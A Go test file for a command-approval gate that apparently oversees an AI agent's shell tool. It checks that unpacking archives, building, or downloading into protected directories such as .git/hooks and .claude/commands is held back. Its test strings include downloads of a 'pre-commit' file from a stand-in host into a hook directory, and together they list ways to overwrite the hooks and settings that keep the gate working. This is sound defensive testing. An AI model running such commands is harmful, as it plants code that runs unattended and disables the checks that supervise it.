package test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	v1 "policyd/api/v1"
)

// newUnpackingPlace is a project with places that are protected and others, and a repository in a directory of it.
func newUnpackingPlace(t *testing.T) place {
	t.Helper()
	p := newApprovedPlace(t)
	for _, name := range []string{
		".git/hooks/x", ".claude/commands/x", ".github/hooks/x", ".github/workflows/ci.yml", "vendor/lib/.git/HEAD", "vendor/x", "a.a", "a.jar", "x.md",
		"sub/a.tar", "src/pre-commit.go", "src/x.rs",
	} {
		full := filepath.Join(p.project, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(full), 0o755))
		require.NoError(t, os.WriteFile(full, []byte("x\n"), 0o600))
	}
	return p
}

// P11: a program that unpacks writes the directory that it does so in, whatever else it is given.
func TestUnpackingWritesWhereItIsDone(t *testing.T) {
	p := newUnpackingPlace(t)
	var protected, ordinary []string
	for _, unpack := range []string{
		"tar xf ../../a.tar", "tar xf ../../a.tar 2>/dev/null", "tar xf ../../a.tar > ../../clean/log", "tar xf ../../a.tar &> ../../clean/log", "tar xf ../../a.tar '*'",
		"tar xf ../../a.tar x '*'", "tar xf ../../a.tar --one-top-level", "unzip -o ../../a.zip 2>/dev/null", "unzip ../../a.zip '[a-z]*'", "unzip -d . ../../a.zip",
		"7z x ../../a.tar", "7z x -y ../../a.tar", "7zz e ../../a.tar", "cpio -i -F ../../a.tar", "cpio -id < ../../a.tar", "unrar x ../../a.tar",
		"ar x ../../a.a", "ar xo ../../a.a 2>/dev/null", "jar xf ../../a.jar", "jar -xf ../../a.jar", "pax -r -f ../../a.tar", "dpkg -x ../../a.a .",
		"dpkg-deb -x ../../a.a .", "dpkg-deb -R ../../a.a", "dpkg-deb -e ../../a.a", "unsquashfs ../../a.a", "cabextract ../../a.a", "unar ../../a.a", "bsdtar xf ../../a.tar 2>&1",
	} {
		for _, dir := range []string{".git/hooks", ".claude/commands", ".github/hooks"} {
			protected = append(protected, "cd "+dir+" && "+unpack)
		}
		protected = append(protected, strings.ReplaceAll(unpack, "../../", ""), "cd vendor/lib && "+unpack, `cd "$X" && `+strings.ReplaceAll(unpack, "../../", p.project+"/"))
		ordinary = append(ordinary, "cd clean/deep && "+unpack)
	}
	p.holdApproved(t, false, protected)
	p.holdApproved(t, true, ordinary)
	p.holdApproved(t, false, []string{
		"tar -C .git/hooks -xf a.tar", "tar xf a.tar -C .", "tar xf a.tar --one-top-level=.git/hooks", "tar xf a.tar --one-top-level=.", "unzip a.zip -d .claude",
		"unzip a.zip -d .", "dpkg -x a.a .git", "ar --output .git/hooks -x a.a", "cd sub && tar xf a.tar -C ..", "tar xf a.tar .git/hooks/pre-commit", "tar xf a.tar x.md '.g*'", "cd .git/hooks && 7z x -oclean ../../a.tar", "7z -y x a.tar",
	})
	p.holdApproved(t, true, []string{
		"tar xf a.tar -C clean 2>/dev/null", "tar xf a.tar --one-top-level=clean", "tar xf a.tar clean/x.txt", "tar xf a.tar 'clean/*'", "unzip a.zip -d clean", "unzip -d clean a.zip '*.txt'",
		"unzip a.zip clean/x.txt > /dev/null", "dpkg -x a.a clean", "dpkg-deb -x a.a clean", "ar --output clean -x a.a", "ar rcs clean/a.a x.md", "jar xf a.jar clean", "jar cf clean/b.jar src",
		"cd vendor && tar xf ../a.tar", "cd clean && 7z x ../a.tar", "tar tf a.tar", "tar -xOf a.tar x", "tar cf clean/b.tar src", "unzip -l a.zip", "7z l a.tar", "7z a clean/x.7z src", "unrar l a.tar",
	})
}

// P11: unpacking in a project's own directory, or at a repository's top, may make protected files that aren't there yet.
func TestUnpackingMayMakeProtectedFiles(t *testing.T) {
	p := newPlace(t)
	require.NoError(t, os.RemoveAll(p.project+"/.git"))
	require.NoError(t, os.RemoveAll(p.project+"/.claude"))
	require.NoError(t, os.WriteFile(p.project+"/a.tar", nil, 0o600))
	p.holdApproved(t, false, []string{"tar xf a.tar", "unzip a.tar", "cd plain && tar -C .. -xf ../a.tar", "cd .. && tar xf proj/a.tar", "7z x a.tar"})
	p.holdApproved(t, true, []string{"cd plain && tar xf ../a.tar", "cd src && unzip ../a.tar", "tar -C plain -xf a.tar"})
	reasons := p.approved(t, "tar xf a.tar 2>/dev/null").Reasons
	require.NotEmpty(t, reasons)
	assert.Contains(t, reasons[0].Message, "files below "+p.project+" may change that could switch the gate off or run later")
}

// P11: a command in a protected directory may write there without a word that names it. Readers don't.
func TestWorkingInAProtectedDirectory(t *testing.T) {
	p := newUnpackingPlace(t)
	writers := []string{
		"ar x ../../a.a", "go build ../../src/pre-commit.go", "rustc ../../src/x.rs", "split --additional-suffix=.md ../../x.md", "csplit ../../x.md 2", "git clone https://h.example/x",
		"gh release download v1", "gcc ../../src/x.c", "mytool", "make", "npm test", "python3 ../../src/x.py", "curl -O http://h.example/pre-commit", "wget http://h.example/pre-commit",
	}
	for _, dir := range []string{".git/hooks", ".claude/commands", ".github/hooks", ".git", ".claude"} {
		for _, line := range writers {
			in := "cd " + dir + " && " + line
			assert.NotEqualf(t, v1.EffectAllow, p.approved(t, in).Effect, "%s", in)
			effect, codes := p.judge(t, p.call("Bash", map[string]any{"command": in}), nil, trust(p.project))
			assert.NotEqualf(t, v1.EffectAllow, effect, "%s, with trust: %s", in, codes)
		}
	}
	for _, line := range []string{"(cd .git/hooks; go build ../../src/pre-commit.go)", "go -C .git/hooks build ../../src/pre-commit.go", "make -C .git/hooks", "for d in clean .git; do (cd $d && make); done"} {
		effect, codes := p.judge(t, p.call("Bash", map[string]any{"command": line}), nil, trust(p.project))
		assert.NotEqualf(t, v1.EffectAllow, effect, "%s: %s", line, codes)
	}
	for _, dir := range []string{".github/workflows", ".github/hooks", ".git/hooks", ".claude/commands"} {
		for _, line := range []string{"ls", "ls -la", "cat x", "head -5 x | sort", "git status", "git log --oneline", "grep -r k .", "pwd", "echo hi", "wc -l x && cd .. && ls"} {
			in := "cd " + dir + " && " + line
			if strings.HasPrefix(line, "git") && strings.HasPrefix(dir, ".git/") {
				continue // git has no work tree there
			}
			effect, codes := p.judge(t, p.call("Bash", map[string]any{"command": in}), nil)
			assert.Equalf(t, v1.EffectAllow, effect, "%s: %s", in, codes)
		}
	}
	p.holdApproved(t, true, []string{"cd .github/workflows && mytool", "cd src && go build pre-commit.go", "cd .github && mytool"})
}
